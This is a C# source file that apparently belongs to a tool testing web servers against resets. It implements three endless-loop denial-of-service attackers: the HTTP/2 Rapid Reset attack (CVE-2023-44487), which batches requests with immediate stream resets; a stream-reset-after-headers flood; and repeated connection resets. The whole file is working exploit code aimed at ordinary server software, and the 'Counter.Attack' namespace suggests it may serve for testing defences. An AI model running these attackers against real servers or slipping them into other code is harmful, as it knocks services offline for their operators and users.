namespace Counter.Attack.Attackers;

/// <summary>Attackers that reset streams and connections early.</summary>
internal static class Resets
{
    private const int AtOnce = 50;
    private const int Cancel = 8;
    private const string Picture = "/online.png?site=attack.example&page=/resets";

    /// <summary>Sends requests and resets them in the same write (CVE-2023-44487).</summary>
    public static async Task RapidAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, ushort.MaxValue, over);
        await Http1.EitherAsync(ended => connection.ReadToEndAsync(count, ended), async ended =>
        {
            for (var id = 1; ; id += 2 * AtOnce)
            {
                var first = id;
                byte[] frames = [.. Enumerable.Range(0, AtOnce).Select(i => first + 2 * i).SelectMany(stream => (byte[])
                    [.. Http2Connection.Request(target, stream, Picture), .. Http2Connection.Frame(Http2Connection.Reset, stream, Cancel)])];
                await connection.WriteAsync(frames, ended);
            }
        }, over);
    }

    /// <summary>Opens image streams and resets each as soon as it is answered.</summary>
    public static async Task LeaveStreamsAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, ushort.MaxValue, over);
        for (var id = 1; ; id += 2)
        {
            await connection.WriteAsync(Http2Connection.Request(target, id, Picture), over);
            byte type;
            do
            {
                (type, _, _) = await connection.ReadAsync(over);
                if (type == Http2Connection.GoAway)
                {
                    count("GOAWAY");
                }
            }
            while (type is not (Http2Connection.Headers or Http2Connection.GoAway));

            // Received bytes of the body reduce the connection's window, so the window is increased again.
            await connection.WriteAsync(
                (byte[])[.. Http2Connection.Frame(Http2Connection.Reset, id, Cancel), .. Http2Connection.Frame(Http2Connection.WindowUpdate, 0, ushort.MaxValue)], over);
            count("left");
        }
    }

    /// <summary>Opens image streams and resets each connection when the response has begun.</summary>
    public static async Task ResetConnectionAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        while (true)
        {
            await using var stream = await target.ConnectAsync(number, cancellationToken: over);
            await stream.AskAsync(target, Picture, over);
            await stream.ReadStatusAsync(count, over);
        }
    }
}
